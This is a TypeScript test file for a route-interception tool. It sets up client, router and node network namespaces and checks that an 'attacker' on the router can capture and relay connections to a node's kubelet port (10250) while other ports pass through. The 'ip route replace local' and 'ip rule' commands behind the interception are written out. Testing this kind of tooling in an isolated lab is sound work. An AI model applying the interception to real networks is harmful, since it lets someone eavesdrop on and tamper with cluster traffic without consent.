// The router's interception for real, in three network namespaces (apiserver ↔ router ↔ node): only the chosen
// port of the node's address reaches the attacker's listener; other ports, and the attacker's own connections
// from its source address, reach the node; undo restores the router's rules.
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { interceptRoute } from './route-interception.ts';

const run = promisify(execFile);
const IP = '/usr/sbin/ip';
const tag = randomBytes(2).toString('hex');
const [CLIENT, ROUTER, NODE] = ['c', 'r', 'n'].map((s) => `ri${s}-${tag}`);
const NODE_IP = '10.82.0.9';
const ROUTER_NODE_SIDE = '10.82.0.2';
const children: ChildProcess[] = [];

const ip = (args: string[]) => run(IP, args).then((r) => r.stdout);
const inRouter = (args: string[]) => ip(['-n', ROUTER, ...args]);

function serve(ns: string, script: string): Promise<void> {
  const child = spawn(IP, ['netns', 'exec', ns, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
  children.push(child);
  return new Promise((ok) => child.stdout!.once('data', () => ok()));
}

/** What a connection from the client namespace to NODE_IP:port reads. */
async function fromClient(port: number): Promise<string> {
  const script = `const s=require('node:net').connect(${port},'${NODE_IP}');let t='';s.on('data',(d)=>t+=d);s.on('end',()=>{process.stdout.write(t)});s.on('error',(e)=>process.stdout.write('error '+e.code))`;
  return (await run(IP, ['netns', 'exec', CLIENT, process.execPath, '-e', script], { timeout: 5_000 })).stdout;
}

beforeAll(async () => {
  for (const ns of [CLIENT, ROUTER, NODE]) {
    await ip(['netns', 'add', ns]);
    await ip(['-n', ns, 'link', 'set', 'lo', 'up']);
  }
  const link = async (a: string, aAddr: string, b: string, bAddr: string, name: string) => {
    await ip(['link', 'add', `${name}a`, 'netns', a, 'type', 'veth', 'peer', 'name', `${name}b`, 'netns', b]);
    await ip(['-n', a, 'addr', 'add', aAddr, 'dev', `${name}a`]);
    await ip(['-n', b, 'addr', 'add', bAddr, 'dev', `${name}b`]);
    await ip(['-n', a, 'link', 'set', `${name}a`, 'up']);
    await ip(['-n', b, 'link', 'set', `${name}b`, 'up']);
  };
  await link(CLIENT, '10.81.0.1/24', ROUTER, '10.81.0.2/24', `rc${tag}`);
  await link(ROUTER, `${ROUTER_NODE_SIDE}/24`, NODE, `${NODE_IP}/24`, `rn${tag}`);
  await ip(['-n', CLIENT, 'route', 'add', '10.82.0.0/24', 'via', '10.81.0.2']);
  await ip(['-n', NODE, 'route', 'add', 'default', 'via', ROUTER_NODE_SIDE]);
  await run(IP, ['netns', 'exec', ROUTER, 'sysctl', '-qw', 'net.ipv4.ip_forward=1']);
  // The node answers on both ports; the attacker listens on the wildcard and relays from its source address.
  await serve(NODE, "const n=require('node:net');for(const p of [10250,22])n.createServer((s)=>s.end('real '+p)).listen(p);console.log('up')");
  await serve(
    ROUTER,
    `require('node:net').createServer((s)=>{const u=require('node:net').connect({port:10250,host:'${NODE_IP}',localAddress:'${ROUTER_NODE_SIDE}'});let t='';u.on('data',(d)=>t+=d);u.on('end',()=>s.end('attacker('+s.localAddress+') relayed: '+t))}).listen(10250,'0.0.0.0',()=>console.log('up'))`,
  );
});

afterAll(async () => {
  for (const child of children) child.kill('SIGKILL');
  for (const ns of [CLIENT, ROUTER, NODE]) await ip(['netns', 'del', ns]).catch(() => undefined);
});

describe('interceptRoute', () => {
  it('takes only the chosen port of the node address, lets the relay through, and undoes itself', async () => {
    expect(await fromClient(10250)).toBe('real 10250');
    // A leftover of an earlier run (never undone) is replaced, not an error.
    await interceptRoute({ address: NODE_IP, port: 10250, sourceAddress: ROUTER_NODE_SIDE, ip: inRouter });
    const interception = await interceptRoute({ address: NODE_IP, port: 10250, sourceAddress: ROUTER_NODE_SIDE, ip: inRouter });
    expect(interception.commands).toContain(`ip route replace local ${NODE_IP}/32 dev lo table local`);
    expect(await fromClient(10250)).toBe(`attacker(${NODE_IP}) relayed: real 10250`);
    expect(await fromClient(22)).toBe('real 22');

    await interception.undo();
    expect(await fromClient(10250)).toBe('real 10250');
    const rules = await inRouter(['rule', 'show']);
    expect(rules.trim().split('\n').map((l) => l.replace(/\s+/g, ' '))).toEqual(['0: from all lookup local', '32766: from all lookup main', '32767: from all lookup default']);
    expect(await inRouter(['route', 'show', 'table', 'local'])).not.toContain(NODE_IP);
  }, 30_000);

  it('says CAP_NET_ADMIN is missing when the kernel refuses', async () => {
    const refuse = async (args: string[]) => (args[0] === 'rule' && args[1] === 'show' ? '' : Promise.reject(new Error('RTNETLINK answers: Operation not permitted')));
    await expect(interceptRoute({ address: NODE_IP, port: 10250, sourceAddress: ROUTER_NODE_SIDE, ip: async (args) => (args[1] === 'add' ? refuse(args) : '') })).rejects.toThrow(
      /cannot intercept 10\.82\.0\.9:10250: ip rule add pref 10 from 10\.82\.0\.2 lookup main: .*CAP_NET_ADMIN/,
    );
  });
});
